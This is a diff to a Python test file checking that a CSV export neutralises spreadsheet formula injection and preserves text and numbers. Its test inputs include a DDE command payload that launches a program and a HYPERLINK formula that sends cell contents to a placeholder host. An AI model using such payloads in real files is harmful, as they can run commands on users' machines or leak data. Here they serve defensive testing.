@@ -1,5 +1,6 @@
 """What a reader takes along: the whole run, tables that spreadsheets read, pictures that open offline."""
 
+import csv
 import io
 import re
 
@@ -31,7 +32,12 @@ def test_the_npz_holds_the_whole_run_under_the_traces_keys() -> None:
 def read(content: bytes, **look) -> pd.DataFrame:
     """A CSV as pandas reads it, its first line being a remark."""
     assert content.startswith(b"\xef\xbb\xbf")  # the mark by which spreadsheets know UTF-8
-    return pd.read_csv(io.BytesIO(content), index_col=0, comment="#", **look)
+    return pd.read_csv(io.BytesIO(content), index_col=0, skiprows=1, keep_default_na=False, **look)
+
+
+def cells(content: bytes) -> list[list[str]]:
+    """What stands in the cells of a CSV, row by row."""
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
 
 
 @pytest.mark.parametrize("names", [["天", "<b>"], [f"词{i}" for i in range(2 * MOST_NAMED)]])
@@ -43,14 +49,24 @@ def test_the_csv_keeps_chinese_every_name_and_every_digit(names: list[str]) -> N
     np.testing.assert_allclose(kept.to_numpy(), values, rtol=1e-6)
 
 
-def test_what_a_link_puts_into_a_sentence_begins_no_line_of_the_csv() -> None:
-    lines = exports.csv(pd.DataFrame({"a": [1]}), "the cat\n=HYPERLINK(1)\r\n+1").decode("utf-8-sig").splitlines()
-    assert lines == ["# the cat =HYPERLINK(1) +1", ",a", "0,1"]
-
-
 def test_the_csv_says_in_its_first_line_what_it_is_about() -> None:
-    first, second, *_ = exports.csv(pd.DataFrame({"a": [1]}), "Attention · i love you").decode("utf-8-sig").splitlines()
-    assert (first, second) == ("# Attention · i love you", ",a")
+    about = 'the cat\n=HYPERLINK("http://x"&A2,"x");=1\r\n+1'
+    first, *others = cells(exports.csv(pd.DataFrame({"a": [1]}), about))
+    assert first == ["# " + " ".join(about.split())]  # one cell of one line
+    assert others == [["", "a"], ["0", "1"]]
+
+
+@pytest.mark.parametrize("live", ["=cmd|'/C calc'!A0", "+1+A1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1"])
+def test_no_word_of_a_csv_is_a_formula_and_numbers_stay_numbers(live: str) -> None:
+    values, wide = np.array([-0.1, 1e-8], np.float32), live.translate(str.maketrans("=+-@", "＝＋－＠"))
+    table = pd.DataFrame({live: values, wide: [live, "a;=1,b"]}, index=pd.Index([wide, "-1.5"], name=f"@{live}"))
+    kept = exports.csv(table, live)
+    assert not [cell for row in cells(kept) for cell in row if re.match(r"\s*[=+@＝＋－＠]|\s|-1\+", cell)]
+    assert b'"a;=1,b"' in kept and b'"-1.5"' in kept  # no spreadsheet parts them, and what is a number may begin so
+    there = read(kept)
+    assert there.index.name == f"'@{live}"
+    assert list(there.columns) == ["'" + live, "'" + wide] and list(there.index) == ["'" + wide, "-1.5"]
+    np.testing.assert_array_equal(there.iloc[:, 0].to_numpy(np.float32), values)
 
 
 def test_a_table_of_bars_holds_their_values_and_names() -> None:
